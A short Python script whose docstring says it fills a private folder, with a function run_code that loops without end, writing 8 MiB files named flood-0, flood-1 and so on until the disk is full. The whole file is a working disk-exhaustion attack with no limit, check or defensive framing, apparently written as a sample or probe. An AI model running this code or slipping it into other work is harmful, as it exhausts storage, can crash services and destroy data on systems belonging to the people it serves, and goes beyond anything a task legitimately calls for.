"""Fills the private folder, file by file."""


def run_code():
    number = 0
    while True:
        with open(f"flood-{number}", "wb") as file:
            for _ in range(8):
                file.write(b"x" * (1 << 20))
        number += 1
